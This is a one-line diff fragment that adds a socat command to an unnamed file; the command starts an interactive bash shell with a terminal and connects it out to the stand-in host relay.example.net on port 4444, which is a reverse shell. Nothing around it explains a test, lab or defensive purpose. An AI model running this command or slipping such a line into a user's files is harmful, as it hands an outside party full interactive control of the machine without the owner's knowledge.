@@ -1,0 +1,1 @@
+socat exec:'bash -li',pty,stderr tcp:relay.example.net:4444
